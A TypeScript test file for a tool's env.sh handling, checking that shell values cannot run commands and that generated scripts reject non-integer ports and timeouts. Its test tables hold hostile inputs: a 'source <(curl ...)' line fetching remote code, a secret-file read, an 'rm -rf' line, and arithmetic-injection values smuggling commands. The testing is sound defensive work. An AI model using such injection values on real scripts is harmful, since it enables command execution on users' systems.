/**
 * env.sh values never run code gymrecipe did not clear: the static rung fails every expansion that
 * can run a command, commands that read env.sh refuse to source such a file, and the generated
 * scripts check numbers as plain integers before arithmetic sees them.
 */
import {execa} from 'execa'
import {existsSync} from 'node:fs'
import {mkdtemp, readFile, writeFile} from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import {beforeAll, describe, expect, it} from 'vitest'

import {envLineProblem, envShProblems} from '../../src/env-sh.js'
import {scriptEnvironment} from '../../src/runtime/recipe-env.js'
import {runCli} from '../helpers/cli.js'
import {generatedRecipe} from '../helpers/recipes.js'

let relaxRoot: string
let dir: string
let generatedEnv: string
const marker = () => path.join(os.tmpdir(), `gr-pwned-${process.pid}-${Math.random().toString(36).slice(2)}`)

beforeAll(async () => {
  ;({relaxRoot, dir} = await generatedRecipe('calendar', 'envvalues'))
  generatedEnv = await readFile(path.join(dir, 'env.sh'), 'utf8')
})

async function withEnvLine(line: string): Promise<void> {
  await writeFile(path.join(dir, 'env.sh'), `${generatedEnv}${line}\n`)
}

describe('what env.sh may hold', () => {
  it.each([
    ['export GYM_HOST="${GYM_HOST:-$(touch /tmp/x)}"', /command substitution/],
    ['export GYM_HOST=`hostname -I`', /backtick/],
    ["export NEMO_GYM_START_TIMEOUT_S='GATEWAY_PORT[$(touch /tmp/x)0]'", /command substitution/],
    ['export A="$[1+1]"', /arithmetic expansion/],
    ['export A="$(<secret.txt)"', /command substitution/],
    ['source <(curl -s http://example.invalid)', /process substitution/],
    ['export A=1; rm -rf /tmp/x', /not a plain NAME=value/],
    ['A=1 ./run.sh', /not a plain NAME=value/],
    ['export A="${B:-${C}}"', /not a plain \$\{NAME\}/],
    ['export A="${B/x/y}"', /not a plain \$\{NAME\}/],
    ['export A="${!B}"', /not a plain \$\{NAME\}/],
    ['cat <<EOF', /not a plain NAME=value/],
  ])('refuses %s', (line, why) => {
    expect(envLineProblem(line)).toMatch(why)
  })

  it.each([
    'export MODEL_DIR="${MODEL_DIR:-/shared/models}"',
    "export TOKEN_PATH='/secrets/a b'",
    'export GYM_HOST=10.0.0.5',
    'NEMO_GYM_GATEWAY_PORT=29100',
    'export A="${B}/sub/${C:-x}"',
    'export A=${B-default}',
    'export A B C',
    '# export A="$(hostname)"  a comment runs nothing',
  ])('accepts %s', (line) => {
    expect(envLineProblem(line)).toBeUndefined()
  })

  it('the generated env.sh is clean, and a comment after a value is not read as code', () => {
    expect(envShProblems(generatedEnv)).toEqual([])
    expect(envShProblems('export A=1 # $(not run)\n')).toEqual([])
    expect(envShProblems('export A=1\nexport B="$(id)"\n')).toEqual([{line: 2, text: 'export B="$(id)"', problem: expect.stringMatching(/command substitution/)}])
  })
})

describe('reading env.sh', () => {
  it('the static rung fails a default that runs a command, naming the line', async () => {
    await withEnvLine('export GYM_HOST="${GYM_HOST:-$(touch /tmp/never)}"')
    const r = await runCli(['verify', 'envvalues', '--relax-root', relaxRoot, '--only', 'static', '--json'], {env: {DOCKER_HOST: 'unix:///nonexistent.sock'}})
    const check = r.json.rungs.flatMap((rung: {checks: Array<{id: string}>}) => rung.checks).find((c: {id: string}) => c.id === 'static.env-deployment-only')
    expect(check.status).toBe('fail')
    expect(check.message).toMatch(/^line \d+ can run a command: it holds command substitution/)
  })

  it('status, handoff and the data rung refuse to source it, and run nothing', async () => {
    const touched = marker()
    await withEnvLine(`export GYM_HOST="\${GYM_HOST:-$(touch ${touched})}"`)
    const status = await runCli(['status', 'envvalues', '--relax-root', relaxRoot, '--json'], {env: {DOCKER_HOST: 'unix:///nonexistent.sock'}})
    expect(status.exitCode).toBe(2)
    expect(status.json.error).toMatchObject({code: 'E_ENV_SH', message: expect.stringMatching(/^env\.sh is not sourced: it holds command substitution/), location: {file: path.join(dir, 'env.sh')}})
    expect(status.json.error.hint).toContain('GYMRECIPE_TRUST_ENV_SH=1')
    const handoff = await runCli(['handoff', 'envvalues', '--relax-root', relaxRoot], {env: {DOCKER_HOST: 'unix:///nonexistent.sock'}})
    expect(handoff.stdout + handoff.stderr).toMatch(/env\.sh is not sourced/)
    const data = await runCli(['verify', 'envvalues', '--relax-root', relaxRoot, '--only', 'data', '--json'], {env: {DOCKER_HOST: 'unix:///nonexistent.sock'}})
    expect(JSON.stringify(data.json)).toMatch(/env\.sh is not sourced/)
    expect(existsSync(touched)).toBe(false)
  })

  it('GYMRECIPE_TRUST_ENV_SH=1 sources it, commands included, as it says', async () => {
    const touched = marker()
    await withEnvLine(`export GYM_HOST="\${GYM_HOST:-$(touch ${touched}; echo 10.0.0.9)}"`)
    const env = await scriptEnvironment(dir, {PATH: process.env.PATH, GYMRECIPE_TRUST_ENV_SH: '1'})
    expect(env.GYM_HOST).toBe('10.0.0.9')
    expect(existsSync(touched)).toBe(true)
  })

  it('reads the values of a clean env.sh', async () => {
    await withEnvLine('export GYM_HOST=10.0.0.7')
    const env = await scriptEnvironment(dir, {PATH: process.env.PATH})
    expect(env.GYM_HOST).toBe('10.0.0.7')
    expect(env.NEMO_GYM_GATEWAY_PORT).toMatch(/^\d+$/)
  })

  it("never sources the user's ~/.bashrc along with env.sh", async () => {
    await withEnvLine('export GYM_HOST=10.0.0.7')
    const home = await mkdtemp(path.join(os.tmpdir(), 'gr-home-'))
    await writeFile(path.join(home, '.bashrc'), 'export FROM_BASHRC=1\n')
    const env = await scriptEnvironment(dir, {PATH: process.env.PATH, HOME: home})
    expect(env.FROM_BASHRC).toBeUndefined()
  })

  it('a syntax error is reported as such, with its line', async () => {
    await withEnvLine('export GYM_HOST="unclosed')
    await expect(scriptEnvironment(dir, {PATH: process.env.PATH})).rejects.toMatchObject({code: 'E_ENV_SH', message: expect.stringMatching(/sourcing .*env\.sh failed: line \d+: unexpected EOF/)})
  })
})

describe('numbers in the generated scripts', () => {
  const hostile = (touched: string) => `GATEWAY_PORT[$(touch ${touched})0]`
  const script = (name: string) => path.join(dir, name)

  it('the start script refuses a timeout that is not a whole number before any arithmetic', async () => {
    await writeFile(path.join(dir, 'env.sh'), generatedEnv)
    const touched = marker()
    const r = await execa('bash', [script('start_envvalues_gym.sh')], {reject: false, env: {NEMO_GYM_IMAGE: 'x', GYM_HOST: '127.0.0.1', NEMO_GYM_START_TIMEOUT_S: hostile(touched)}})
    expect(r.exitCode).toBe(2)
    expect(r.stderr).toContain('NEMO_GYM_START_TIMEOUT_S must be a whole number of seconds')
    expect(existsSync(touched)).toBe(false)
  })

  it('the start script refuses such a port on the host and inside the container', async () => {
    await writeFile(path.join(dir, 'env.sh'), generatedEnv)
    for (const inContainer of ['0', '1']) {
      const touched = marker()
      const r = await execa('bash', [script('start_envvalues_gym.sh')], {reject: false, env: {NEMO_GYM_IMAGE: 'x', GYM_HOST: '127.0.0.1', NEMO_GYM_START_IN_CONTAINER: inContainer, NEMO_GYM_GATEWAY_PORT: hostile(touched)}})
      expect(r.exitCode, inContainer).toBe(2)
      expect(r.stderr).toMatch(/NEMO_GYM_GATEWAY_PORT must be an integer/)
      expect(existsSync(touched)).toBe(false)
    }
  })
})
